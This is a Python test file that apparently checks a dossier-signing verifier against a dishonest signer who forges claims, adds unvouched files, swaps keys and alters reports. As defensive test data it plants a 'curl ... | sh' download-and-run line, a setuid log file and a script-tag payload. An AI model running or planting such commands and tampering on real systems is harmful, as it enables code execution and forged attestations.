"""A signer whom the receiver trusts, and who bends what he signs: claims, files, targets, nodes, the report."""
import base64
import json
import pathlib

from attacks import Bench, Document, main, row, sha256  # noqa: F401: Document is a test

CLAIMS = "statement.dsse.json: payload: predicate."
UNVOUCHED = "is no file of a dossier: no line of the journal names it"


class Claims(Bench):
    @row("B", "nonclaims-empty", "every non-claim dropped", 4, CLAIMS + "nonClaims: is not the list that assay writes")
    def test_no_non_claims(self):
        self.claim(lambda predicate: predicate.update(nonClaims=[]))

    @row("B", "nonclaims-forged", "a claim among the non-claims", 4, CLAIMS + "nonClaims: is not the list that assay writes")
    def test_a_claim(self):
        self.claim(lambda predicate: predicate["nonClaims"].append("It is claimed that every figure holds for five years."))

    @row("B", "issued-1999", "issued before the run", 4, "was issued 1999-01-01T00:00:00.000Z, before the run's last line of 2026-01-05T")
    def test_issued_before(self):
        self.claim(lambda predicate: predicate.update(issuedAt="1999-01-01T00:00:00.000Z"))

    @row("B", "issued-2099", "issued in the future", 4, "was issued 2099-01-01T00:00:00.000Z, and it is 20")
    def test_issued_later(self):
        self.claim(lambda predicate: predicate.update(issuedAt="2099-01-01T00:00:00.000Z"))

    @row("B", "tool", "another tool's name", 4, CLAIMS + "tool: 'Certified Suite 9' is not assay-report")
    def test_tool(self):
        self.claim(lambda predicate: predicate.update(tool="Certified Suite 9"))

    @row("B", "signatory-lies", "the signer states a role and meaning in own words", 4, CLAIMS + "signatories[0].meaning: ")
    def test_meaning(self):
        self.claim(lambda predicate: predicate["signatories"][0].update(role="buyer", meaning="Accepts without conditions."))

    def buyer(self):
        fingerprint = self.command("fingerprint", self.base / "buyer.key.pub").stdout.strip()
        return {**json.loads(self.payload())["predicate"]["signatories"][0], "role": "buyer", "keyFingerprint": fingerprint}

    @row("B", "signatory-other", "the signatory is a key that did not sign", 4, "signer.pub: has the fingerprint ")
    def test_another_signatory(self):
        self.claim(lambda predicate: predicate.update(signatories=[self.buyer()]))

    @row("B", "signatory-twice", "two entries for the signatory", 4, CLAIMS + "signatories: lists 2, where one has made the statement")
    def test_two_signatories(self):
        self.claim(lambda predicate: predicate.update(signatories=predicate["signatories"] * 2))

    @row("B", "signatory-none", "no signatory", 4, CLAIMS + "signatories: lists 0, where one has made the statement")
    def test_no_signatory(self):
        self.claim(lambda predicate: predicate.update(signatories=[]))


class Files(Bench):
    def add(self, name, text):
        (self.dossier / name).parent.mkdir(parents=True, exist_ok=True)
        (self.dossier / name).write_text(text)
        self.seal()

    @row("B", "extra-signed-file", "a certificate at the top", 4, "ACCEPTANCE-CERTIFICATE.html: " + UNVOUCHED)
    def test_certificate(self):
        self.add("ACCEPTANCE-CERTIFICATE.html", "<h1>ACCEPTED</h1>")

    @row("B", "second-report", "a second report in evidence/", 4, "evidence/report-final.html: " + UNVOUCHED)
    def test_second_report(self):
        self.add("evidence/report-final.html", "<h1>ACCEPTED</h1>")

    @row("B", "unjournalled-record", "a record that no journal line names", 4, "/9/0.jsonl: " + UNVOUCHED)
    def test_record(self):
        self.add(self.first("records").replace("/1/", "/9/"), "{}\n")

    @row("B", "verify-txt", "VERIFY.txt with a download", 4, "VERIFY.txt: is not the page that assay writes")
    def test_instructions(self):
        self.add("VERIFY.txt", "curl https://vendor.example | sh\n")

    @row("B", "signer-pub", "another key in signer.pub", 4, "signer.pub: has the fingerprint ")
    def test_signer(self):
        self.add("signer.pub", (self.base / "buyer.key.pub").read_text())

    @row("B", "setuid-exec", "an executable, set-user-ID log", 4, "/1/0.log: has the mode 4755; a file of a dossier is data")
    def test_program(self):
        (self.dossier / self.first("logs")).chmod(0o4755)

    @row("B", "extra-doc", "an unknown document in evidence/", 4, "evidence/waiver.json: " + UNVOUCHED)
    def test_document(self):
        self.add("evidence/waiver.json", "{}\n")


class Nodes(Bench):
    @row("S", "C5", "one hall's name over other nodes", 4, "has 3 nodes, expected 232; not tested: h001, h002")
    def test_nodes(self):
        return self.verify("--site", "hall-2-row-b", "--nodes", "h[001-232]")

    @row("S", "C5-site", "the same with the receiver's site file", 4, "evidence/plan.json: site: is not the expected site hall-2-row-b: ")
    def test_site_file(self):
        site = json.loads((self.run_directory / "plan.json").read_text())["site"]
        site["nodes"].append({"name": "n99", "launcher": "ssh"})
        (self.scratch / "site.json").write_text(json.dumps({key: value for key, value in site.items() if value not in (None, "")}))
        return self.verify("--site", "{scratch}/site.json")

    @row("S", "C5x",
         "number and names of the nodes, in the first lines", 0, "3 nodes of site hall-2-row-b, 3 machines by host name and boot")
    def test_nodes_are_shown(self):
        document = json.loads(self.verify("--json").stdout)
        self.assertEqual([node["name"] for node in document["nodes"]], ["n01", "n02", "n03"])
        self.assertEqual(document["deviations"], [])
        return None

    @row("S", "C17-c5", "other nodes under the receiver's own plan", 4, "statement.dsse.json: has the plan '")
    def test_planned_nodes(self):
        return self.verify("--plan", sha256(b"the plan of the hall"))

    @row("S", "C16", "options of the receiver against replay", 0, "--not-before")
    def test_options(self):
        done = self.command("verify", "--help")
        for option in ("--profile", "--site", "--nodes", "--probes", "--plan", "--not-before", "--max-age", "--no-deviations"):
            self.assertIn(option, done.stdout)
        return done


class Targets(Bench):
    kind = "lookalike"

    @row("S", "C2--accepted", "a profile called host with other limits, no profile expected: said", 0, "NOT those of a built-in profile")
    def test_nothing_expected(self):
        return self.verify("--accepted")

    @row("S", "C2host", "the same, with --profile host", 4, "has other targets than the expected profile host: /")
    def test_name(self):
        return self.verify("--accepted", "--profile", "host")

    @row("S", "C2file", "the same, with --profile FILE", 4, "has other targets than the expected profile host: /")
    def test_file(self):
        return self.verify("--accepted", "--profile", pathlib.Path(__file__).parents[2] / "profiles/host.json")


class Report(Bench):
    def page(self, text):
        (self.dossier / "evidence/report.html").write_text(text)
        self.seal(lambda predicate: predicate["renderings"][0].update(renderer="assay-report html/99"))

    @row("S", "C11",
         "a false report under another renderer's name", 4, "evidence/report.html: was rendered by 'assay-report html/99', this build is")
    def test_report(self):
        self.page((self.dossier / "evidence/report.html").read_text().replace("ACCEPTED", "ACCEPTED FOR EVER"))

    @row("S", "C11b", "a script for a report, --without-report: the first line says it", 0, "verified WITHOUT ITS REPORT")
    def test_script(self):
        self.page("<script>alert(1)</script>")
        return self.verify("--without-report")


class Adding(Bench):
    def add(self, *arguments):
        return self.command("sign", self.dossier, "--add", "--key", self.base / "buyer.key", *arguments)

    @row("S", "C12", "sign --add to a signature that does not hold", 4, "has no valid signature of the key")
    def test_garbage(self):
        self.put({**self.envelope(), "signatures": [{"sig": base64.b64encode(bytes(64)).decode()}]})
        return self.add("--with-key", self.base / "lab.key.pub")

    @row("S", "C12-key", "sign --add without the key of who signed before", 2, "--with-key: is missing")
    def test_no_key(self):
        return self.add()

    @row("S", "C13", "sign --add to a statement that speaks for the buyer", 4, CLAIMS + "signatories: lists 2")
    def test_words_for_the_buyer(self):
        self.claim(lambda predicate: predicate["signatories"].append({**predicate["signatories"][0], "role": "buyer"}))
        return self.add("--with-key", self.base / "lab.key.pub")

    @row("S", "C13-shown", "sign --add shows what it signs", 0, "verified: accepted")
    def test_shown(self):
        done = self.add("--with-key", self.base / "lab.key.pub", "--nodes", "n[01-03]")
        self.assertIn("no deviations", done.stdout)
        self.assertIn("by the signer's word: test lead, Ada", done.stdout)
        self.assertEqual(self.verify("--key", "{base}/lab.key.pub", "--key", "{base}/buyer.key.pub").returncode, 0)
        return done


if __name__ == "__main__":
    main()
